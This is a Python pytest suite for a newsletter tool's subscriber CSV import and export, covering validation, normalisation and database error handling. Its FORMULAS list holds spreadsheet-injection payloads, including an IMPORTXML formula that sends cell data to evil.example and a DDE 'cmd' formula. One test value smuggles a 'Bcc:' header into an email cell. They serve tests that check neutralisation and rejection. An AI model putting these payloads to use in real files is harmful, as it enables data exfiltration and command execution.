from __future__ import annotations

import csv
import io
import sqlite3
import unicodedata
from pathlib import Path

import pytest

from pipeline.audience import subscribers
from pipeline.audience.subscribers import SubscriberError, add, counts, export_csv, find, import_csv, remove
from pipeline.db import MIGRATIONS, open_db, transaction
from pipeline.errors import NewsletterError, StateError


@pytest.fixture
def db(tmp_path: Path) -> sqlite3.Connection:
    return open_db(tmp_path / "state")


def db_path(db: sqlite3.Connection) -> Path:
    """The folder of the database ``db`` is connected to, for a second connection to it."""
    return Path(db.execute("PRAGMA database_list").fetchone()["file"]).parent


def write(tmp_path: Path, text: str, name: str = "list.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_schema_is_versioned_and_wal(db: sqlite3.Connection, tmp_path: Path) -> None:
    assert db.execute("PRAGMA user_version").fetchone()[0] == len(MIGRATIONS)
    assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    db.execute(f"PRAGMA user_version = {len(MIGRATIONS) + 1}")
    with pytest.raises(NewsletterError, match="newer than this program knows"):
        open_db(tmp_path / "state")


def test_import_reports_added_updated_skipped_and_rejected_by_line(
    db: sqlite3.Connection, tmp_path: Path
) -> None:
    add(db, "gone@example.org", status="active")
    db.execute("UPDATE subscribers SET status = 'unsubscribed'")
    path = write(
        tmp_path,
        "email,name,status\n"
        "ada@example.org,Ada,\n"  # line 2
        "not-an-address,X,\n"  # line 3
        "ADA@example.org,Ada Lovelace,\n"  # line 4: same address, other case -> update
        "gone@example.org,,active\n"  # line 5: unsubscribed earlier
        "bob@example.org,,sleeping\n"  # line 6: bad status
        ",nobody,\n"  # line 7
        "carl@example.org,Carl\n",  # line 8: short row, fine
    )
    report = import_csv(db, path)
    assert (report.added, report.updated, report.unchanged) == (2, 1, 0)
    assert [line for line, _ in report.skipped] == [5]
    assert [line for line, _ in report.rejected] == [3, 6, 7]
    assert "An email address must have an @-sign" in report.rejected[0][1]
    assert "unknown status 'sleeping'" in report.rejected[1][1]
    ada = find(db, "ada@EXAMPLE.org")
    assert ada is not None and ada["email"] == "ada@example.org" and ada["name"] == "Ada Lovelace"
    assert find(db, "gone@example.org")["status"] == "unsubscribed"  # type: ignore[index]


def test_force_reactivates_and_history_is_kept(db: sqlite3.Connection, tmp_path: Path) -> None:
    add(db, "gone@example.org")
    db.execute("UPDATE subscribers SET status = 'bounced'")
    report = import_csv(db, write(tmp_path, "email\ngone@example.org\n"), force=True)
    assert report.updated == 1
    history = db.execute("SELECT old_status, new_status, cause FROM status_changes ORDER BY id").fetchall()
    assert [tuple(row) for row in history][-1][:2] == ("bounced", "active")


def test_mailchimp_and_tinyletter_exports(db: sqlite3.Connection, tmp_path: Path) -> None:
    mailchimp = write(
        tmp_path, "Email Address,First Name,Last Name,MEMBER_RATING\nz@example.org,Zoë,Ñuñez,2\n", "mc.csv"
    )
    assert import_csv(db, mailchimp).added == 1
    assert find(db, "z@example.org")["name"] == "Zoë Ñuñez"  # type: ignore[index]
    tinyletter = write(tmp_path, "\ufeffEmail Address,Name,Status\ny@example.org,Y,subscribed\n", "tl.csv")
    assert import_csv(db, tinyletter).added == 1
    assert find(db, "y@example.org")["status"] == "active"  # type: ignore[index]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"name,status\nx,active\n", r"no 'email' \(or 'Email Address'\) column"),
        ("email\ncaf\u00e9@example.org\n".encode("latin-1"), "not valid UTF-8"),
    ],
)
def test_unusable_files_fail_whole_and_write_nothing(
    db: sqlite3.Connection, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(SubscriberError, match=message):
        import_csv(db, path)
    assert sum(counts(db).values()) == 0


def test_control_characters_rejected(db: sqlite3.Connection, tmp_path: Path) -> None:
    report = import_csv(
        db, write(tmp_path, 'email,name\n"a@example.org\r\nBcc: x@example.org",A\nb@example.org,"B\x07"\n')
    )
    assert report.added == 0 and len(report.rejected) == 2


def test_add_remove_export(db: sqlite3.Connection) -> None:
    add(db, "a@example.org", "A")
    with pytest.raises(SubscriberError, match="already on the list"):
        add(db, "A@example.org")
    with pytest.raises(SubscriberError, match=r"not a valid|must have"):
        add(db, "nope")
    out = io.StringIO()
    assert export_csv(db, out) == 1
    assert out.getvalue().splitlines()[1].startswith("a@example.org,A,active,cli,")
    remove(db, "a@example.org")
    assert counts(db)["active"] == 0
    with pytest.raises(SubscriberError, match="not on the list"):
        remove(db, "a@example.org")


def test_non_ascii_mailbox_names_are_rejected_domains_accepted(
    db: sqlite3.Connection, tmp_path: Path
) -> None:
    report = import_csv(db, write(tmp_path, "email\nzoë@example.org\nanna@bücher.example\n"))
    assert report.added == 1 and report.rejected[0][0] == 2


FORMULAS = [
    '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "'=already quoted",
    "''@twice",
]


def test_export_neutralises_formulas_and_import_round_trips_them(
    db: sqlite3.Connection, tmp_path: Path
) -> None:
    for number, name in enumerate(FORMULAS):
        add(db, f"reader{number}@example.org", name)
    add(db, "=1+1@example.com", "Sum")
    add(db, "plain@example.org", "'Tis Plain")
    out = io.StringIO()
    export_csv(db, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert all(not cell.startswith(risky) for row in rows for cell in row.values()), rows
    by_email = {row["email"]: row for row in rows}
    assert by_email["'=1+1@example.com"]["name"] == "Sum"
    assert by_email["plain@example.org"]["name"] == "'Tis Plain"  # no formula: left alone
    # Importing the export into an empty list gives back exactly what was exported.
    exported = write(tmp_path, out.getvalue(), "export.csv")
    fresh = open_db(tmp_path / "other")
    report = import_csv(fresh, exported)
    assert (report.added, report.rejected) == (len(FORMULAS) + 2, [])
    again = io.StringIO()
    export_csv(fresh, again)
    columns = ("email", "name", "status")
    assert [[r[c] for c in columns] for r in csv.DictReader(io.StringIO(again.getvalue()))] == [
        [r[c] for c in columns] for r in rows
    ]
    assert find(fresh, "=1+1@example.com")["name"] == "Sum"  # type: ignore[index]
    assert [find(fresh, f"reader{n}@example.org")["name"] for n in range(len(FORMULAS))] == FORMULAS  # type: ignore[index]


def test_spellings_of_one_mailbox_are_one_subscriber(db: sqlite3.Connection, tmp_path: Path) -> None:
    decomposed = unicodedata.normalize("NFD", "u@bücher.example")
    report = import_csv(
        db,
        write(
            tmp_path, f"email\nu@bücher.example\nu@xn--bcher-kva.example\n{decomposed}\nU@BÜCHER.EXAMPLE\n"
        ),
    )
    assert (report.added, report.unchanged) == (1, 3)
    assert [row["email"] for row in db.execute("SELECT email FROM subscribers")] == ["u@bücher.example"]
    for spelling in ("u@xn--bcher-kva.example", decomposed):
        with pytest.raises(SubscriberError, match="already on the list"):
            add(db, spelling)
    assert find(db, "U@xn--BCHER-kva.example") is not None
    add(db, f"w@{unicodedata.normalize('NFD', 'bücher.example')}")
    assert find(db, "w@bücher.example")["email"] == "w@bücher.example"  # type: ignore[index]  # stored NFC


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        ("Eve\x1b[2J", "name contains the control character U+001B (escape) at character 4"),
        ("Eve\x85", "name contains the control character U+0085 (next line) at character 4"),
        ("\u202eEve", "name contains the control character U+202E (right-to-left override) at character 1"),
    ],
    ids=ascii,
)
def test_import_refuses_control_characters_in_names_by_line(
    db: sqlite3.Connection, tmp_path: Path, cell: str, reason: str
) -> None:
    report = import_csv(db, write(tmp_path, f'email,name\nok@example.org,Ok\neve@example.org,"{cell}"\n'))
    assert report.added == 1
    assert report.rejected == [(3, f"eve@example.org: {reason}")]
    assert find(db, "eve@example.org") is None


def test_import_commits_in_batches_that_let_other_writers_in(
    db: sqlite3.Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(subscribers, "BATCH_SECONDS", 0.0)  # one row a transaction
    other = open_db(db_path(db))
    written_between: list[int] = []

    def pause(seconds: float) -> None:
        # Between two batches: another connection gets the write lock at once, and sees the rows so far.
        other.execute("PRAGMA busy_timeout = 0")
        with transaction(other):
            written_between.append(other.execute("SELECT COUNT(*) FROM subscribers").fetchone()[0])

    monkeypatch.setattr(subscribers.time, "sleep", pause)
    report = import_csv(db, write(tmp_path, "email\na@example.org\nb@example.org\nc@example.org\n"))
    assert report.added == 3
    assert written_between == [1, 2]


def test_an_import_the_database_stops_says_from_which_line_and_running_it_again_finishes(
    db: sqlite3.Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(subscribers, "BATCH_SECONDS", 0.0)
    blocker = open_db(db_path(db))
    db.execute("PRAGMA busy_timeout = 50")

    def pause(seconds: float) -> None:
        if not blocker.in_transaction:
            blocker.execute("BEGIN IMMEDIATE")  # another writer keeps the lock past the importer's timeout

    monkeypatch.setattr(subscribers.time, "sleep", pause)
    path = write(tmp_path, "email\na@example.org\n\nb@example.org\nc@example.org\n")
    with pytest.raises(StateError) as stopped:
        import_csv(db, path)
    assert str(stopped.value) == (
        f"{path}: import stopped at line 4: the state database failed (database is locked); "
        "lines up to 2 are imported: run the same import again to finish"
    )
    blocker.execute("ROLLBACK")
    assert [r["email"] for r in db.execute("SELECT email FROM subscribers")] == ["a@example.org"]
    monkeypatch.undo()
    report = import_csv(db, path)
    assert (report.added, report.unchanged) == (2, 1)


def test_a_full_disk_stops_an_import_with_one_line_keeping_the_batches_before(
    db: sqlite3.Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(subscribers, "PAUSE_SECONDS", 0.0)
    monkeypatch.setattr(subscribers, "BATCH_SECONDS", 0.0)  # one row a transaction
    pages = db.execute("PRAGMA page_count").fetchone()[0]
    db.execute(f"PRAGMA max_page_count = {pages + 2}")  # what a full disk looks like to SQLite
    path = write(tmp_path, "email,name\n" + "".join(f"r{n}@example.org,{'x' * 900}\n" for n in range(50)))
    with pytest.raises(StateError) as stopped:
        import_csv(db, path)
    message = str(stopped.value)
    assert "\n" not in message and "the state database failed (database or disk is full)" in message
    stored = counts(db)["active"]
    assert 0 < stored < 50
    assert (
        f"import stopped at line {stored + 2}" in message
        and f"lines up to {stored + 1} are imported" in message
    )


def test_cells_are_trimmed_of_spreadsheet_spaces(db: sqlite3.Connection, tmp_path: Path) -> None:
    report = import_csv(
        db, write(tmp_path, "email,name,status\n\xa0ada@example.org\xa0, Ada\xa0,active\xa0\n")
    )
    assert (report.added, report.rejected) == (1, [])
    assert tuple(find(db, "ada@example.org")[c] for c in ("email", "name", "status")) == (  # type: ignore[index]
        "ada@example.org",
        "Ada",
        "active",
    )
